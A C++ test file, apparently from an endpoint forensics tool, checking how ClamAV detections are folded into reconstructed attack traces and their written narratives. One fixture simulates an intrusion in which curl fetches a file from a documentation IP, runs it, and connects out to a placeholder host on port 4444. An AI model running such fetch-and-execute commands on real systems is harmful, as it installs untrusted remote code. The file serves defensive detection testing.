// SPDX-License-Identifier: GPL-3.0-or-later
// What the computer's own antivirus had found in the files of a trace.
#include "tests/endpoint/trace_fixture.h"

using namespace metsuke;
using namespace metsuke::endpoint;
using namespace metsuke::endpoint::test;
using testing::Contains;
using testing::HasSubstr;
using testing::Not;

namespace {

using Kind = TraceNode::Kind;
using Outcome = Detected::Outcome;
constexpr const char* kPayload = "/home/sato/.update";

Detected detection(const std::string& path, Outcome outcome = Outcome::Reported, const std::string& movedTo = {}) {
    return {"ClamAV", "Unix.Trojan.Test-1", path, {}, outcome, movedTo};
}

std::vector<std::string> detections(const Trace& trace) {
    std::vector<std::string> found;
    for (const TraceNode& node : trace.nodes) {
        if (node.kind == Kind::Detection) {
            found.push_back(node.label);
        }
    }
    return found;
}

const TraceNode& subjectOf(const Trace& trace) { return trace.nodes.at(trace.subject.value_or(SIZE_MAX)); }

} // namespace

TEST(TraceDetections, FileThatTheAntivirusMovedAway_isGoneAndSaidSo) {
    Dropper d;
    d.s.at(230).tell({}, detection(kPayload, Outcome::Quarantined, "/var/lib/quarantine/.update"), "clamav_log");
    const Trace t = trace(d.s, beacon(200));
    EXPECT_THAT(detections(t), testing::ElementsAre("Unix.Trojan.Test-1"));
    EXPECT_EQ(confidenceOf(t, TraceEdge::Relation::Detected), 0.9);
    EXPECT_TRUE(subjectOf(t).isRemoved);
    EXPECT_THAT(blast(t, Kind::Detection), testing::IsEmpty()) << "it is not the program's doing";
    EXPECT_THAT(story(t), HasSubstr("ClamAV found Unix.Trojan.Test-1 in /home/sato/.update at"));
    EXPECT_THAT(story(t), HasSubstr("moved the file away, to /var/lib/quarantine/.update."));
    EXPECT_THAT(story(t, Language::Japanese), HasSubstr("移動先: /var/lib/quarantine/.update"));
}

TEST(TraceDetections, FileThatWasOnlyReported_isStillThere) {
    Dropper d;
    d.s.at(230).tell({}, detection(kPayload), "clamav_log");
    const Trace t = trace(d.s, beacon(200));
    EXPECT_THAT(detections(t), Contains("Unix.Trojan.Test-1"));
    EXPECT_FALSE(subjectOf(t).isRemoved);
    EXPECT_THAT(story(t), HasSubstr("and only reported it."));
}

TEST(TraceDetections, WhatWasDoneLater_isThatOneFinding) {
    Dropper d;
    for (const Outcome outcome : {Outcome::Reported, Outcome::Removed}) {
        d.s.at(230).tell({}, detection(kPayload, outcome), "clamav_log");
    }
    const Trace t = trace(d.s, beacon(200));
    EXPECT_EQ(detections(t).size(), 1U);
    EXPECT_TRUE(subjectOf(t).isRemoved);
    EXPECT_THAT(story(t), testing::AllOf(HasSubstr("and removed the file."), Not(HasSubstr("only reported"))));
}

TEST(TraceDetections, FileThatCameBackAfterItWasRemoved_isThere) {
    Dropper d;
    d.s.at(230).tell({}, detection(kPayload, Outcome::Removed), "clamav_log");
    d.s.at(240).write(d.beacon, kPayload, d.payload);
    EXPECT_FALSE(subjectOf(trace(d.s, beacon(200))).isRemoved);
}

TEST(TraceDetections, EarlierNameOfTheFile_countsToo) {
    Dropper d;
    d.s.at(230).tell({}, detection("/home/sato/.u.part", Outcome::Denied), "clamav_log");
    EXPECT_THAT(story(trace(d.s, beacon(200))), HasSubstr("in /home/sato/.u.part"));
}

TEST(TraceDetections, OtherFile_isNotTold) {
    Dropper d;
    d.s.at(230).tell({}, detection("/home/sato/other"), "clamav_log");
    EXPECT_THAT(detections(trace(d.s, beacon(200))), testing::IsEmpty());
}

TEST(TraceDetections, FileThatHadThePathBeforeThisOneCame_isNotTold) {
    Scenario s;
    s.at(10).tell({}, detection("/tmp/x"), "clamav_log");
    const auto shell = s.run(s.running("/usr/sbin/sshd", s.running(kInit)), "/bin/bash", {"bash"});
    const auto curl = s.at(5'000).run(shell, "/usr/bin/curl", {"curl", "-o", "/tmp/x", "http://203.0.113.8/x"});
    s.connect(curl, kDrop, 8080, 40'000);
    s.write(curl, "/tmp/x", {8, 9});
    s.at(5'100).connect(s.run(shell, "/tmp/x", {"/tmp/x"}, {8, 9}), kEvil, 4444, 50'000);
    EXPECT_THAT(detections(trace(s, beacon(5'100))), testing::IsEmpty());
}

TEST(TraceDetections, SameContentElsewhere_isTheSameFinding) {
    Dropper d;
    FileChanged change;
    change.path = kPayload;
    change.file = d.payload;
    change.sha256 = std::string(64, 'a');
    d.s.at(150).tell(d.curl, change);
    Detected copy = detection("/srv/upload/y", Outcome::Removed);
    copy.sha256 = change.sha256;
    d.s.at(20).tell({}, copy, "clamav_log");
    Detected another = detection(kPayload);
    another.signature = "Other";
    another.sha256 = std::string(64, 'b');
    d.s.at(230).tell({}, another, "clamav_log");
    const Trace t = trace(d.s, beacon(200));
    EXPECT_THAT(detections(t), testing::ElementsAre("Unix.Trojan.Test-1")) << "another content is another file";
    EXPECT_EQ(confidenceOf(t, TraceEdge::Relation::Detected), 1);
    EXPECT_FALSE(subjectOf(t).isRemoved) << "the copy was";
}

TEST(TraceDetections, LogThatCannotBeRead_isAGapThatHidesNoFile) {
    Dropper d;
    d.s.at(1).tell({}, Gap{"antivirus", seconds(300), -1, "not_recorded"}, "agent");
    const Trace t = trace(d.s, beacon(200));
    EXPECT_THAT(gapIds(t), Contains("endpoint.gap.recorded"));
    EXPECT_EQ(t.entry, EntryVector::Download);
}
